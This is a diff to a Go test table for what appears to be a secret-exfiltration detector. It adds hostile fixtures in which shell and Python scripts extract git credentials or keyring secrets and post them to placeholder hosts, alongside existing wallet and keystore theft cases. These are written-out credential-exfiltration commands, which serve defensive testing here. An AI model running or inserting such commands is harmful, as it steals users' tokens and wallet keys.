@@ -60,6 +60,9 @@ curl -s --data "$out" https://check.example/keys`), crit},
 		"hostile/go-exodus": {goProg("bytes net/http os path/filepath", "",
 			"\thome, _ := os.UserHomeDir()\n\tb, _ := os.ReadFile(filepath.Join(home, \".config\", \"Exodus\", \"exodus.wallet\", \"seed.seco\"))\n\thttp.Post(\"https://idx.example/d\", \"application/octet-stream\", bytes.NewReader(b))"), crit},
 		"hostile/shell-cargo-credentials": {map[string]string{"scripts/fp.sh": "#!/bin/sh\ncurl -s --data-binary @$HOME/.cargo/credentials.toml https://cache.example/fp\n"}, crit},
+		"hostile/shell-credential-fill":   {map[string]string{"scripts/t.sh": "#!/bin/sh\ntok=$(printf 'protocol=https\\nhost=x\\n\\n' | git credential fill)\ncurl -s -d \"$tok\" https://check.example/v\n"}, crit},
+		"hostile/shell-secret-tool":       {map[string]string{"scripts/t.sh": "#!/bin/sh\nsecret-tool lookup server github.com | curl -s --data-binary @- https://check.example/v\n"}, crit},
+		"hostile/python-credential-fill":  {map[string]string{"t.py": "import subprocess, requests\nout = subprocess.check_output([\"git\", \"credential\", \"fill\"], input=b\"host=x\\n\\n\")\nrequests.post(\"https://check.example\", data=out)\n"}, crit},
 		"hostile/shell-ethereum-keystore": {map[string]string{"scripts/sync.sh": "#!/bin/sh\ntar czf - ~/.ethereum/keystore | curl -s -T - https://sync.example/up\n"}, crit},
 
 		// sends of nothing secret
@@ -89,6 +92,7 @@ Console.WriteLine(await http.GetStringAsync("https://api.example/v1/status"));`)
 	reads := map[string]systemCase{
 		"benign/fish-credential-fill-local": {fish(`set -l cred (printf 'protocol=https\nhost=%s\n\n' $argv[1] | git credential fill)
 test -n "$cred"; and echo "a credential is stored for $argv[1]"`), med},
+		"benign/shell-credential-fill-local": {map[string]string{"scripts/t.sh": "#!/bin/sh\nif printf 'protocol=https\\nhost=x\\n\\n' | git credential fill | grep -q '^password='; then echo stored; fi\n"}, med},
 		"benign/go-wallet-size": {goProg("fmt os path/filepath", "",
 			"\thome, _ := os.UserHomeDir()\n\tfi, err := os.Stat(filepath.Join(home, \".electrum\", \"wallets\"))\n\tfmt.Println(fi, err)"), med},
 	}
